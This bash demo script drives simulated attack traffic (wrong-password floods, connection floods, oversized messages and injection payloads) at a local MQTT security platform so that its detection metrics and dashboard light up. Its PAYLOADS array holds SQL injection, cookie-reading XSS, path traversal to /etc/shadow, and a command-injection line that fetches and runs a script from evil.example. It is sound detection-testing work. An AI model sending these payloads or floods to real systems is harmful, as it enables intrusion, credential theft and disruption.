#!/usr/bin/env bash
# Continuous bad traffic against MQTT Sentinel, to light up the dashboard.
set -euo pipefail
# shellcheck source=demo/scripts/lib.sh
. "$(dirname "${BASH_SOURCE[0]}")/lib.sh"

MODES=(auth-flood injection connection-flood size-anomaly)

usage() {
  cat <<EOF
Usage: $(basename "$0") [--mode MODE] [--duration SECONDS] [--rate PER_SECOND] [--slice SECONDS]

Sends attack traffic to the edge for a bounded time, then prints how the platform's metrics moved.
Without --mode, every mode runs in turn, --slice seconds each, in a loop until --duration is over.
Traffic goes only to SENTINEL_DEMO_HOST (default 127.0.0.1).

Modes:
  auth-flood        CONNECTs with wrong passwords, for demo devices and for unknown client ids
                    metric: sentinel_auth_requests_total{result="denied"} (edge)
  injection         a registered device publishes SQL injection, XSS, command injection and path
                    traversal payloads
                    metric: sentinel_processor_findings_total by class (processors)
  connection-flood  short-lived connections from registered devices, PER_SECOND of them, 10 at a time
                    metric: sentinel_ingest_connections_opened_total (edge); past the CONNECT tier's
                    burst (500 per IP, then 10/s) also sentinel_ratelimit_events_total{tier="connect",outcome="limited"}
  size-anomaly      a registered device publishes 12 KB payloads (cap 10 KB)
                    metric: sentinel_processor_findings_total{rule_id="ANOM-SIZE-CAP"} (processors)

Options:
  --mode MODE           one of: ${MODES[*]}; default: all of them in a loop
  --duration SECONDS    total run time (default 60)
  --rate PER_SECOND     attack events per second (default 10; size-anomaly sends at most 5/s)
  --slice SECONDS       time per mode when looping over all modes (default 10)
  -h, --help            this text

Environment (defaults: the local platform of 'npm start'):
  SENTINEL_DEMO_HOST, SENTINEL_DEMO_PORT     edge address (127.0.0.1, 11883; 18883 with TLS)
  SENTINEL_DEMO_TLS=1, SENTINEL_DEMO_CAFILE  MQTTS and the CA of the edge certificate
  SENTINEL_DEMO_PASSWORD, SENTINEL_DEMO_USERNAME, SENTINEL_DEMO_DEVICE_PREFIX, SENTINEL_DEMO_REGISTER=0
                                             demo device credentials (see demo/scripts/lib.sh)
  SENTINEL_DEMO_INGEST_METRICS, SENTINEL_DEMO_PROCESSORS_METRICS   metrics read before and after
Prerequisites: mosquitto-clients, curl, Node.js (the sentinel CLI, to register the demo devices),
a running platform (npm start).

The edge limits every source address (100 packets/s, 10 CONNECTs/s after bursts of 1,000 and 500):
a long connection-flood from this machine is refused with CONNACK 5 for a while afterwards, which
is what the Rate Limiting panels show.
EOF
}

mode="all"
duration=60
rate=10
slice=10
while [ $# -gt 0 ]; do
  case "$1" in
    -h | --help)
      usage
      exit 0
      ;;
    --mode | --duration | --rate | --slice)
      [ $# -ge 2 ] || die "$1 needs a value (see --help)"
      case "$1" in
        --mode) mode="$2" ;;
        --duration) duration="$2" ;;
        --rate) rate="$2" ;;
        --slice) slice="$2" ;;
      esac
      shift 2
      ;;
    --mode=* | --duration=* | --rate=* | --slice=*)
      value="${1#*=}"
      case "$1" in
        --mode=*) mode="$value" ;;
        --duration=*) duration="$value" ;;
        --rate=*) rate="$value" ;;
        --slice=*) slice="$value" ;;
      esac
      shift
      ;;
    *) die "unknown argument $1 (see --help)" ;;
  esac
done
for n in "$duration" "$rate" "$slice"; do
  case "$n" in '' | *[!0-9]* | 0) die "--duration, --rate and --slice take whole numbers above 0" ;; esac
done
if [ "$mode" != all ] && ! printf '%s\n' "${MODES[@]}" | grep -qxF "$mode"; then
  die "unknown mode '$mode'; one of: ${MODES[*]}"
fi

require_tools mqtt
require_platform

ATTACKER="$(demo_id attacker)"
BULK="$(demo_id bulk)"
FLOOD=()
for i in 0 1 2 3 4 5 6 7 8 9; do FLOOD+=("$(demo_id "flood-$i")"); done

now_ms() { date +%s%3N; }
# pace <start-ms> <events-sent> <per-second>: sleep until the next event is due
pace() {
  local due=$(($1 + $2 * 1000 / $3)) now
  now="$(now_ms)"
  if [ "$due" -gt "$now" ]; then sleep "$(awk -v d=$((due - now)) 'BEGIN { printf "%.3f", d / 1000 }')"; fi
}

# --- the modes; each runs until <end> (epoch seconds) -------------------------------------------------
auth_flood() {
  local end="$1" start sent=0 id
  start="$(now_ms)"
  while [ "$(date +%s)" -lt "$end" ]; do
    if [ $((sent % 2)) = 0 ]; then id="$ATTACKER"; else id="intruder-$RANDOM"; fi
    pub_as "$id" "guess-$RANDOM$RANDOM" -t "devices/$id/status" -m x >/dev/null 2>&1 &
    sent=$((sent + 1))
    pace "$start" "$sent" "$rate"
  done
  wait
  say "  auth-flood: $sent CONNECTs with wrong passwords"
}

PAYLOADS=(
  "{\"name\":\"x' UNION SELECT password FROM users--\"}"
  "{\"q\":\"1' OR '1'='1\"}"
  "{\"label\":\"<script>alert(document.cookie)</script>\"}"
  "{\"img\":\"<img src=x onerror=alert(1)>\"}"
  "{\"host\":\"8.8.8.8; cat /etc/passwd\"}"
  "{\"cmd\":\"\$(curl http://evil.example/x.sh | sh)\"}"
  "{\"file\":\"../../../../etc/shadow\"}"
  "{\"path\":\"..%2f..%2f..%2fetc%2fpasswd\"}"
)

injection() {
  local end="$1" start sent=0
  start="$(now_ms)"
  {
    while [ "$(date +%s)" -lt "$end" ]; do
      printf '%s\n' "${PAYLOADS[$((sent % ${#PAYLOADS[@]}))]}"
      sent=$((sent + 1))
      pace "$start" "$sent" "$rate"
    done
  } | pub "$ATTACKER" -t "devices/$ATTACKER/telemetry" -q 1 -l
  say "  injection: malicious payloads published by $ATTACKER for $(($(now_ms) - start)) ms"
}

connection_flood() {
  local end="$1" start sent=0 id
  start="$(now_ms)"
  while [ "$(date +%s)" -lt "$end" ]; do
    id="${FLOOD[$((sent % ${#FLOOD[@]}))]}"
    pub "$id" -t "devices/$id/status" -m '{"online":true}' >/dev/null 2>&1 &
    sent=$((sent + 1))
    pace "$start" "$sent" "$rate"
  done
  wait
  say "  connection-flood: $sent connections opened"
}

size_anomaly() {
  local end="$1" start sent=0 file per_second
  per_second=$((rate > 5 ? 5 : rate))
  file="$(mktemp)"
  printf '{"blob":"%s"}' "$(head -c 12288 /dev/zero | tr '\0' b)" >"$file"
  start="$(now_ms)"
  {
    while [ "$(date +%s)" -lt "$end" ]; do
      cat "$file"
      printf '\n'
      sent=$((sent + 1))
      pace "$start" "$sent" "$per_second"
    done
  } | pub "$BULK" -t "devices/$BULK/upload" -q 1 -l
  rm -f "$file"
  say "  size-anomaly: 12 KB payloads published by $BULK for $(($(now_ms) - start)) ms"
}

# --- metrics before and after -------------------------------------------------------------------------
snapshot() {
  printf '%s %s %s %s %s %s\n' \
    "$(metric "$INGEST_METRICS" sentinel_auth_requests_total 'result="denied"')" \
    "$(metric "$PROCESSORS_METRICS" sentinel_processor_findings_total 'class="(sqli|xss|command-injection|path-traversal)"')" \
    "$(metric "$INGEST_METRICS" sentinel_ingest_connections_opened_total)" \
    "$(metric "$PROCESSORS_METRICS" sentinel_processor_findings_total 'rule_id="ANOM-SIZE-CAP"')" \
    "$(metric "$INGEST_METRICS" sentinel_ratelimit_events_total 'outcome="limited"')" \
    "$(metric "$PROCESSORS_METRICS" sentinel_processor_verdicts_total 'decision="(block|quarantine)"')"
}

step "simulate-bad-traffic: mode $mode, ${duration}s, ${rate}/s, against $DEMO_HOST:$DEMO_PORT"
say "registering the demo devices (idempotent):"
case "$mode" in
  auth-flood | injection) ensure_devices "$ATTACKER" ;;
  connection-flood) ensure_devices "${FLOOD[@]}" ;;
  size-anomaly) ensure_devices "$BULK" ;;
  all) ensure_devices "$ATTACKER" "$BULK" "${FLOOD[@]}" ;;
esac

read -r b_denied b_inject b_opened b_size b_limited b_bad < <(snapshot)
finish=$(($(date +%s) + duration))
trap 'kill $(jobs -p) 2>/dev/null || true' INT TERM
if [ "$mode" = all ]; then
  i=0
  while [ "$(date +%s)" -lt "$finish" ]; do
    m="${MODES[$((i % ${#MODES[@]}))]}"
    until_s=$(($(date +%s) + slice))
    [ "$until_s" -gt "$finish" ] && until_s="$finish"
    say "-> $m until $(date -d "@$until_s" +%T)"
    "${m//-/_}" "$until_s"
    i=$((i + 1))
  done
else
  "${mode//-/_}" "$finish"
fi

say "waiting 5 s for the processors to decide on the last messages..."
sleep 5
read -r a_denied a_inject a_opened a_size a_limited a_bad < <(snapshot)
step "what the platform counted (live metrics, before -> after)"
printf '  %-62s %8s -> %-8s (+%s)\n' \
  "auth denials, sentinel_auth_requests_total{result=denied}" "$b_denied" "$a_denied" "$((a_denied - b_denied))" \
  "injection findings, sentinel_processor_findings_total" "$b_inject" "$a_inject" "$((a_inject - b_inject))" \
  "connections opened, sentinel_ingest_connections_opened_total" "$b_opened" "$a_opened" "$((a_opened - b_opened))" \
  "size findings, ..._findings_total{rule_id=ANOM-SIZE-CAP}" "$b_size" "$a_size" "$((a_size - b_size))" \
  "rate-limited packets, sentinel_ratelimit_events_total{limited}" "$b_limited" "$a_limited" "$((a_limited - b_limited))" \
  "block + quarantine verdicts, sentinel_processor_verdicts_total" "$b_bad" "$a_bad" "$((a_bad - b_bad))"
say ""
say "See them on the dashboard (dashboards/mqtt-security.json) or in Prometheus: $PROMETHEUS_URL"
